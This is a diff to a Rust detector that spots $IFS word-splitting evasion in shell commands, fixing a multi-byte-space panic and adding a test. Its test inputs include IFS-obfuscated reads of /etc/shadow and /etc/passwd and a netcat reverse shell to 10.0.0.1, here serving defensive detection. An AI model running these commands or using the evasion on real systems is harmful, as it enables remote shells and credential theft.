@@ -147,8 +147,10 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
 /// text on both sides. Not alone as a word, nor in an assignment's value: the save/restore
 /// idiom `OLDIFS=$IFS; IFS=,; ...; IFS=$OLDIFS` only moves the value around.
 fn ifs_in_word(s: &str) -> Option<&'static str> {
-    // Word boundaries, and the characters that are not word text.
-    let sep = |c: char| c.is_whitespace() || ";|&()<>`".contains(c);
+    // Word boundaries, and the characters that are not word text. sh splits words on ASCII
+    // blanks only (U+2000 is word text to it), and every boundary being one byte keeps the
+    // `j + 1` below on a character boundary.
+    let sep = |c: char| c.is_ascii_whitespace() || ";|&()<>`".contains(c);
     let text = |c: char| !sep(c) && !"=\"'".contains(c);
     ["${IFS}", "$IFS"].into_iter().find(|k| {
         s.match_indices(k).any(|(i, _)| {
@@ -315,6 +317,9 @@ mod tests {
             "{cat,$IFS/etc/shadow}",
             "nc${IFS}-e${IFS}/bin/sh${IFS}10.0.0.1${IFS}4444",
             "x=1; cat${IFS}'/etc/passwd'",
+            // A multi-byte space is word text to sh, not a boundary (found by the enrich_line
+            // fuzzer: the word start was taken one byte past U+2000, inside it, and panicked).
+            "cat\u{2000}x$IFS/etc/passwd",
         ] {
             assert_eq!(
                 run(detect, &["sh", "-c", script]),
